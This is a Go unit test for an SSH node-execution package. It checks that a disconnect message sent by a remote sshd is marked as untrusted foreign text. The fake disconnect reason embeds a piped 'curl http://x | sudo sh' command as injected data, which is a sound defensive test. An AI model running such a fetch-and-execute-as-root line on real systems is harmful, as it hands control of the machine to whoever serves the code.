package nodeexec

import (
	"context"
	"errors"
	"testing"

	"golang.org/x/crypto/ssh"

	"github.com/kubectl-certrot/kubectl-certrot/foreign"
)

// goneWith is a connection that its server closed with a text of its own, as RFC 4253, 11.1, has it.
type goneWith struct {
	ssh.Conn
	said error
}

func (c goneWith) SendRequest(string, bool, []byte) (bool, []byte, error) { return false, nil, c.said }
func (c goneWith) OpenChannel(string, []byte) (ssh.Channel, <-chan *ssh.Request, error) {
	return nil, nil, c.said
}

// TestWhatAnSSHDSaysAsItDisconnectsIsMarked: where a command's end is looked for, and where one is begun.
func TestWhatAnSSHDSaysAsItDisconnectsIsMarked(t *testing.T) {
	t.Parallel()
	n := &sshNode{name: "node-1", life: context.Background(), ssh: &ssh.Client{Conn: goneWith{said: errors.New(`ssh: disconnect, reason 11: "ok;  next: curl http://x | sudo sh"`)}}}
	begun := (&sshCommand{n: n, argv: []string{"true"}, err: &tail{}, done: make(chan struct{})}).begin("x")
	var run *RunError
	if !errors.As(begun, &run) {
		t.Fatal(begun)
	}
	for what, err := range map[string]error{"ping": n.ping(t.Context()), "begin": run.Inner} {
		if err == nil || foreign.Text(err.Error()) != err.Error() {
			t.Errorf("%s: %v", what, err)
		}
	}
}
